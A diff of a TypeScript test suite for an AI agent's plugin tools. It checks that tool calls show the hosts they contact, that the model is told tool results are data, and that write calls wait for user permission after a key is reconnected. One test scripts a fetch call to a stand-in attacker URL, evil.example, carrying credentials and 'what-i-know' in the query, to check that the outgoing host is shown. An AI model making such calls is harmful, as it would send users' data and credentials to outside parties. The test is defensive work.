@@ -200,12 +200,13 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
   });
 
   it('names the host of an address that a call sends, and the model is told that results are data', async () => {
-    const { chat } = await openWith([tool('fetch', { request_params: [parameter('url'), parameter('also')] })]);
-    const args = { url: 'https://user:pw@evil.example/?q=what-i-know', also: 'no address' };
+    const also = parameter('also', { type: ParameterType.object });
+    const { chat } = await openWith([tool('fetch', { request_params: [parameter('url'), also] })]);
+    const args = { url: 'https://user:pw@evil.example/?q=what-i-know', also: { to: [{ at: 'https://b.example/x' }] } };
     world.model.script(call('fetch', args), { text: ['Done.'] });
     const [called] = messagesOf(await chat.say('Fetch'), 'function_call');
     expect(JSON.parse(called?.extra_info.execute_display_name ?? '{}')).toMatchObject({
-      name_executing: 'Calling Pets · fetch (evil.example)',
+      name_executing: 'Calling Pets · fetch (evil.example, b.example)',
     });
     expect(world.model.requests.at(-1)?.body.messages[0]).toMatchObject({
       role: 'system',
@@ -371,6 +372,34 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
     const { connections } = await chat.browser.call(GetQueriedOAuthPluginList, {});
     expect(connections).toMatchObject([{ plugin_id, kind: 'key', is_expired: false }]);
     expect(JSON.stringify(world.model.requests.at(-1)?.body)).not.toContain('users-own-key');
+  });
+
+  it('asks to allow a call that has waited for a key, and makes the call that is allowed', async () => {
+    const auth = { type: 'key', owner: 'user', location: 'header', name: 'X-Key', prefix: '' } as const;
+    const chat = await world.chat(`replies-${++users}@example.com`);
+    const write = tool('enter', { method: 'POST', risk: 'writes' });
+    const made = await createPlugin(chat.browser, chat.spaceId, api.url, [write], { auth });
+    const { pluginId: plugin_id } = made;
+    const connect = () => chat.browser.call(SetUserPluginKey, { plugin_id, secret: 'users-own-key' });
+    await connect();
+    await publish(chat.browser, made);
+    await chat.change({ plugin_list: pluginList(made) });
+    const sayUnconnected = async () => {
+      await chat.browser.call(RevokeAuthToken, { plugin_id });
+      world.model.script(call('enter'), { text: ['Entered.'] });
+      const paused = await chat.say('Enter it');
+      expect(actionOf(paused)).toMatchObject({ connect: { plugin_id } });
+      await connect();
+      return answer(chat, paused, 'connected');
+    };
+    const count = () => api.requests.filter(({ url }) => url.pathname === '/enter').length;
+    const before = count();
+    const asked = await sayUnconnected();
+    expect(JSON.parse(actionOf(asked)?.function.arguments ?? '{}').options).toContain('Always allow');
+    expect(count()).toBe(before);
+    expect(answerTextOf(await answer(chat, asked, 'Always allow'))).toBe('Entered.');
+    expect(answerTextOf(await sayUnconnected())).toBe('Entered.');
+    expect(count()).toBe(before + 2);
   });
 
   it('takes the key and the status for the version that the agent uses, not for the plugin as it is edited', async () => {
